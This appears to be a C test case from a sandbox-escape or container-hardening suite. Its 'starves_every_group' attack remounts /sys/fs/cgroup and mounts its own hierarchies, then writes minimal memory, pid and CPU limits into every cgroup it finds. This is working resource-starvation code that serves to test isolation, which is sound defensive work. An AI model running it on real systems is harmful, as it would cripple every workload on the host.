// Tries: to give 64 bytes of memory and one process to each cgroup that it can find.
// With: check, check 08, program 08
// Silent
#include "groups.h"

static int starve(const char *path, const struct stat *found, int kind, struct FTW *where) {
  (void)found, (void)where;
  const char *name = strrchr(path, '/') + 1;
  if (kind != FTW_F || !may_hit(path)) return 0;
  if (!strcmp(name, "memory.max") || !strcmp(name, "memory.high")) write_to(path, "64");
  if (!strcmp(name, "memory.limit_in_bytes")) write_to(path, "64");
  if (!strcmp(name, "pids.max")) write_to(path, "1");
  if (!strcmp(name, "cpu.max")) write_to(path, "1000 1000000");
  if (!strcmp(name, "cpu.shares")) write_to(path, "2");
  return 0;
}

ATTACK(starves_every_group) {
  mount("none", "/sys/fs/cgroup", 0, MS_REMOUNT | MS_BIND, 0);
  nftw("/sys/fs/cgroup", starve, 16, FTW_PHYS);
  // Hierarchies of its own show the same groups.
  mkdir("/tmp/groups", 0755);
  static const char *const kinds[] = {"memory", "pids", "cpu"};
  for (unsigned i = 0; i < 3; i++)
    if (mount("cgroup", "/tmp/groups", "cgroup", 0, kinds[i]) == 0) nftw("/tmp/groups", starve, 16, FTW_PHYS);
  if (mount("cgroup2", "/tmp/groups", "cgroup2", 0, 0) == 0) nftw("/tmp/groups", starve, 16, FTW_PHYS);
  char *memory = malloc(8 << 20);
  if (memory) memset(memory, 1, 8 << 20);
}
